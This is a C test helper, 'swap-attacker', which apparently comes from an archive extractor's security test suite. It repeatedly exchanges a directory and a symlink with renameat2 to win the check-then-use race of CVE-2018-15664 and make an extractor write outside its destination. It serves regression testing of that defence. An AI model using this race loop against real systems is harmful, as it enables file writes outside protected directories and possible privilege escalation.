/*
 * swap-attacker - the concurrent attacker of tests/concurrent-attack.test.
 *
 * usage: swap-attacker [--ready=FILE] A B
 *
 * Exchanges the names A and B (renameat2 RENAME_EXCHANGE) in a tight loop
 * until SIGTERM or SIGINT.  With A a directory inside an extraction's
 * destination and B a symlink to a directory outside it, an extractor that
 * checks a path and then uses it by name (lstat-then-open, or a symlink
 * check followed by a path-based create) writes outside between the two.
 * This is the race of CVE-2018-15664 (docker cp) and of tar extractions
 * into a destination another user can write to.
 *
 * --ready=FILE is created after the first successful swap, so the test
 * starts the extractor only once the attacker is really running.  On exit
 * the names are put back as they were and the number of successful swaps
 * is printed on standard output: a test can assert that the attack ran.
 */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static int exchange(const char *a, const char *b)
{
	return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b,
			    RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
	const char *ready = NULL;
	unsigned long long swaps = 0, failures = 0;
	struct sigaction sa;
	int i = 1;

	for (; i < argc && strncmp(argv[i], "--", 2) == 0; i++) {
		if (strncmp(argv[i], "--ready=", 8) == 0)
			ready = argv[i] + 8;
		else
			break;
	}
	if (argc - i != 2) {
		fprintf(stderr, "usage: swap-attacker [--ready=FILE] A B\n");
		return 2;
	}
	const char *a = argv[i], *b = argv[i + 1];

	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_signal;
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);

	while (!stop) {
		if (exchange(a, b) != 0) {
			failures++;
			if (failures > 1000000) {
				perror("swap-attacker");
				return 2;
			}
			continue;
		}
		if (++swaps == 1 && ready) {
			int fd = open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

			if (fd >= 0)
				close(fd);
		}
	}
	/* An odd number of exchanges leaves A and B swapped: undo one so
	 * the test counts files in a known layout. */
	if (swaps % 2 == 1) {
		if (exchange(a, b) != 0)
			perror("swap-attacker: swapping back");
		else
			swaps++;
	}
	printf("%llu\n", swaps);
	return 0;
}
